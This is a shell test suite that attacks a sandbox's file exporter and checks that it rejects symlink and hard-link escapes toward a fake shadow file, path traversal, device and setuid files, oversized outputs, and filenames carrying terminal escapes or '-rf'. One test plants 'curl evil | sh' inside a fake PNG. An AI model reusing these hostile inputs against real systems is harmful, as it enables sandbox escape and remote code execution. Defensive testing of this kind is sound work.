#!/bin/sh
# tests/exporter/run.sh: attacks on the safe exporter, observed from outside
# (the export directory, the manifest, the host files the attacks aim at).
#
# Each test makes a fresh workspace, runs an attack as the sandbox would
# (a shell as uid 65534 writing into the read-write slot, through
# tests/exporter/exportctl.c, which stands in for the supervisor's export
# steps), exports under a rule, destroys the workspace and checks:
#   - what the manifest says about each file (tests/exporter/check.py);
#   - the export directory holds exactly what the manifest exported, with
#     the digests sha256sum computes;
#   - nothing outside the export directory changed (a snapshot of the
#     surroundings before and after);
#   - no workspace directory remains.
# Then tests/exporter/e2e.sh does it through the real ward and the stdlib
# python profile. One line per test: "PASS exporter/NAME", "FAIL
# exporter/NAME: why" or "SKIP exporter/NAME: why". Needs root (the
# sandbox's uid is dropped to, and rootless mode is tested).
#
#   BUILD=build sh tests/exporter/run.sh
set -u
top=$(cd "$(dirname "$0")/../.." && pwd)
BUILD=${BUILD:-build}
CC=${CC:-cc}
here=$top/tests/exporter

if [ "$(id -u)" != 0 ]; then
	echo "SKIP exporter: needs root (the attacks run as uid 65534)"
	exit 0
fi
for lib in libwardlauncher.a libwardcommon.a; do
	if [ ! -f "$top/$BUILD/$lib" ]; then
		echo "FAIL exporter: no $BUILD/$lib (make BUILD=$BUILD first)"
		exit 1
	fi
done

T=$(mktemp -d /tmp/ward-exporter.XXXXXX) || exit 1
chmod 755 "$T"
trap 'rm -rf "$T"' EXIT
trap 'exit 1' INT TERM HUP
failures=0
fail() {
	echo "FAIL exporter/$1: $2"
	failures=$((failures + 1))
}

san=
case $BUILD in *san*) san="-fsanitize=address,undefined" ;; esac
if ! $CC -O1 -g $san -D_GNU_SOURCE -I"$top/common" -I"$top/launcher/lib" -I"$top/launcher/core" \
	-I"$top/launcher/unprivileged" -o "$T/exportctl" \
	"$here/exportctl.c" "$top/$BUILD/libwardlauncher.a" \
	"$top/$BUILD/libwardcommon.a" -lcap -lsodium -lz 2>"$T/cc.log"; then
	fail build "$(head -c 400 "$T/cc.log")"
	exit 1
fi

# The surroundings: host files the attacks aim at, one of them the
# sandbox's (a hard link needs that), and a file beside the export
# directory.
AROUND=$T/around
mkdir "$AROUND"
printf 'root:$6$secret:19000::::::\n' >"$AROUND/shadow.csv"
printf 'nobody owns this\n' >"$AROUND/nobody.csv"
chown 65534:65534 "$AROUND/nobody.csv"
printf 'beside the export directory\n' >"$T/sibling.txt"
snapshot() {
	(cd "$T" && find around sibling.txt -printf '%p %y %s %m %n %U %T@\n' |
		sort && sha256sum around/* sibling.txt)
}
snapshot >"$T/surroundings.before"

# test NAME RULE... -- SCRIPT: run SCRIPT (sh -c) in the sandbox, export
# under RULE into a fresh $DEST; the output is $T/NAME.json.
test_run() {
	name=$1
	shift
	DEST=$T/dest-$name
	mkdir "$DEST"
	rule=
	while [ "$1" != -- ]; do
		rule="$rule $1"
		shift
	done
	shift
	# shellcheck disable=SC2086
	timeout 120 "$T/exportctl" run $rule --base "$T/wsbase" --dest "$DEST" \
		-- sh -c "$1" >"$T/$name.json" 2>"$T/$name.err"
	rc=$?
	if [ "$rc" = 124 ]; then
		fail "$name" "the export hung (timeout)"
		return 1
	elif [ "$rc" != 0 ]; then
		fail "$name" "exportctl exited $rc: $(head -c 300 "$T/$name.err")"
		return 1
	fi
	return 0
}

# check NAME EXPR...: the manifest, then the export directory against it,
# the surroundings and the workspace base.
check() {
	name=$1
	shift
	python3 "$here/check.py" "$name" "$T/$name.json" "$@" >"$T/check.out"
	if ! grep -q '^PASS' "$T/check.out"; then
		cat "$T/check.out"
		failures=$((failures + 1))
		return
	fi
	# exactly the exported files, with the manifest's digests
	want=$(python3 -c 'import json, sys
m = json.load(open(sys.argv[1]))["manifest"]
for x in sorted(m["entries"], key=lambda x: x["path"]):
    if x["verdict"] == "exported":
        print(x["sha256"] + "  " + x["path"])' "$T/$name.json")
	got=$(cd "$DEST" && find . -type f | sed 's|^\./||' | LC_ALL=C sort |
		while IFS= read -r f; do sha256sum "$f"; done)
	others=$(cd "$DEST" && find . ! -type f ! -type d | head -3)
	if [ "$want" != "$got" ]; then
		fail "$name" "the export directory differs from the manifest:
want: $want
got:  $got"
	elif [ -n "$others" ] && [ "${allow_others:-}" != "$name" ]; then
		fail "$name" "the export directory holds $others"
	elif ! snapshot | cmp -s - "$T/surroundings.before"; then
		fail "$name" "something outside the export directory changed"
		snapshot | diff "$T/surroundings.before" - | head -5
	elif [ -n "$(ls -A "$T/wsbase" 2>/dev/null)" ]; then
		fail "$name" "a workspace remains: $(ls -A "$T/wsbase")"
	else
		cat "$T/check.out"
	fi
}

PNG='\211PNG\r\n\032\n\000\000\000\rIHDR\000\000\000\001\000\000\000\001\010\002\000\000\000\220wS\336\000\000\000\014IDATx\234c\370\317\300\000\000\003\001\001\000\311\376\222\357\000\000\000\000IEND\256B`\202'
CSV='city,temp\nOslo,3\nLima,19\n'

# ------------------------------------------------------------ normal run
if test_run normal -- "printf '$CSV' >data.csv; printf '$PNG' >chart.png
	mkdir plots; printf '$PNG' >plots/p1.png"; then
	mkdir "$T/expect"
	(cd "$T/expect" && printf "$CSV" >data.csv && printf "$PNG" >chart.png)
	csv_sha=$(sha256sum <"$T/expect/data.csv" | cut -d' ' -f1)
	png_sha=$(sha256sum <"$T/expect/chart.png" | cut -d' ' -f1)
	check normal "m['exported'] and m['status'] == 'complete' and m['files'] == 3" \
		"exported() == ['chart.png', 'data.csv', 'plots/p1.png']" \
		"e('data.csv')['sha256'] == '$csv_sha'" \
		"e('chart.png')['sha256'] == '$png_sha'" \
		"e('chart.png')['type'] == 'png' and e('data.csv')['type'] == 'text'" \
		"d['counts'] == {'added': 4, 'changed': 0, 'deleted': 0}" \
		"w['removed'] and w['destroyed'] and w['id'].startswith('ws-')"
fi

# ---------------------------------------------------------------- links
test_run symlink-file -- "ln -s $AROUND/shadow.csv shadow.csv
	printf '$CSV' >data.csv" &&
	check symlink-file "why('shadow.csv') == 'symlink'" \
		"e('shadow.csv')['sha256'] is None" \
		"exported() == ['data.csv']"

test_run symlink-dir -- "ln -s $AROUND host; ln -s / root" &&
	check symlink-dir "why('host') == 'symlink' and why('root') == 'symlink'" \
		"exported() == []"

test_run dotdot -- "mkdir -p a/b; ln -s ../../../../../.. a/b/up
	ln -s ../../../../around/shadow.csv a/b/s.csv
	printf '$CSV' >a/b/..data.csv" &&
	check dotdot "why('a/b/up') == 'symlink' and why('a/b/s.csv') == 'symlink'" \
		"exported() == ['a/b/..data.csv']"

if test_run hardlink -- "ln $AROUND/nobody.csv linked.csv"; then
	if python3 -c 'import json, sys
sys.exit(0 if json.load(open(sys.argv[1]))["diff"]["counts"]["added"] else 1)' \
		"$T/hardlink.json"; then
		check hardlink "why('linked.csv') == 'hard-link'" \
			"e('linked.csv')['sha256'] is None" "exported() == []"
	else
		echo "SKIP exporter/hardlink: the kernel refused the link (protected_hardlinks)"
	fi
fi

# --------------------------------------------------------- special files
test_run fifo -- "mkfifo results.csv; printf '$CSV' >data.csv" &&
	check fifo "why('results.csv') == 'fifo'" "exported() == ['data.csv']"

test_run device --as 0 -- "mknod null.csv c 1 3; mknod disk.png b 7 0
	printf '$CSV' >suid.csv; chmod 4755 suid.csv" &&
	check device "why('null.csv') == 'device' and why('disk.png') == 'device'" \
		"why('suid.csv') == 'setuid'" "exported() == []"

test_run socket -- "python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"sock.csv\")'" &&
	check socket "why('sock.csv') == 'socket'" "exported() == []"

# ------------------------------------------------------- sizes and counts
test_run grows --per-file 1048576 --grow -- "head -c 1000 /dev/zero | tr '\\000' a >big.csv" &&
	check grows "why('big.csv') == 'per-file-cap'" \
		"e('big.csv')['size'] == 1048577" "exported() == []"

test_run many -- "i=0; while [ \$i -lt 10000 ]; do : >f\$i.csv; i=\$((i+1)); done" &&
	check many "m['files'] == 20 and m['examined'] == 10000" \
		"len(m['entries']) == 1020" \
		"m['omitted'] == {'files-cap': 8980}" \
		"sum(1 for x in m['entries'] if x['reason'] == 'files-cap') == 1000"

test_run many-refuse --on refuse -- "i=0; while [ \$i -lt 10000 ]; do : >f\$i.csv; i=\$((i+1)); done" &&
	check many-refuse "not m['exported'] and m['files'] == 0" \
		"m['refusal']['reason'] == 'files-cap'" "exported() == []"

test_run per-file -- "head -c 5242881 /dev/zero | tr '\\000' x >big.csv
	head -c 5242880 /dev/zero | tr '\\000' x >exact.csv" &&
	check per-file "why('big.csv') == 'per-file-cap'" \
		"e('big.csv')['size'] == 5242881" "exported() == ['exact.csv']"

test_run total --files 100 -- "i=0; while [ \$i -lt 50 ]; do head -c 1048576 /dev/zero | tr '\\000' t >p\$(printf %02d \$i).csv; i=\$((i+1)); done" &&
	check total "m['files'] == 40 and m['bytes'] == 40 * 1048576" \
		"why('p40.csv') == 'total-cap' and why('p49.csv') == 'total-cap'"

# ----------------------------------------------------------------- names
test_run names -- "printf '$CSV' >\"\$(printf 'a\\nb.csv')\"
	printf '$CSV' >\"\$(printf '\\033[31mred.csv')\"
	printf '$CSV' >\"\$(printf '\\033]0;owned\\007.csv')\"
	printf '$CSV' >-rf.csv; printf '$CSV' >ok.csv" &&
	check names "why('a\\nb.csv') == 'bad-name'" \
		"why('\\x1b[31mred.csv') == 'bad-name'" \
		"why('\\x1b]0;owned\\x07.csv') == 'bad-name'" \
		"why('-rf.csv') == 'bad-name'" "exported() == ['ok.csv']"

test_run png-script -- "printf '#!/bin/sh\\ncurl evil | sh\\n' >chart.png
	chmod 755 chart.png" &&
	check png-script "why('chart.png') == 'type-mismatch'" \
		"e('chart.png')['type'] == 'text'" "exported() == []"

test_run types --names '*.csv,*.png,*.txt' -- "printf '%%PDF-1.7\\n' >r.pdf
	printf '<!DOCTYPE html><script>x()</script>' >page.txt
	printf '\\177ELF\\002\\001\\001' >tool.csv; printf '$PNG' >ok.png" &&
	check types "why('r.pdf') == 'name-not-allowed'" \
		"why('page.txt') == 'type-not-allowed' and e('page.txt')['type'] == 'html'" \
		"why('tool.csv') == 'type-unknown'" "exported() == ['ok.png']"

# --------------------------------------------------------- all or nothing
test_run refuse --on refuse -- "printf '$CSV' >a.csv; printf '$PNG' >b.png
	ln -s $AROUND/shadow.csv c.csv; printf '$CSV' >d.csv" &&
	check refuse "not m['exported'] and m['files'] == 0" \
		"m['refusal'] == {'reason': 'symlink', 'path': 'c.csv'}" \
		"verdict('a.csv') == 'withheld' and verdict('b.png') == 'withheld'" \
		"e('d.csv') is None" "exported() == []"

# The export directory holds a symlink where a result goes: never written
# through.
DEST=$T/dest-clash
mkdir "$DEST"
ln -s "$AROUND/shadow.csv" "$DEST/data.csv"
allow_others=clash
timeout 60 "$T/exportctl" run --base "$T/wsbase" --dest "$DEST" \
	-- sh -c "printf '$CSV' >data.csv; printf '$CSV' >new.csv" \
	>"$T/clash.json" 2>"$T/clash.err" &&
	check clash "why('data.csv') == 'exists'" "exported() == ['new.csv']" \
		"m['status'] == 'partial' and not m['exported']"

# ----------------------------------------- through the real ward (e2e.sh)
if [ -x "$top/$BUILD/ward" ] && [ -x "$top/$BUILD/wardc" ]; then
	BUILD=$BUILD sh "$here/e2e.sh" || failures=$((failures + 1))
else
	fail e2e "no ward or wardc in $BUILD"
fi

if [ "$failures" -ne 0 ]; then
	exit 1
fi
exit 0
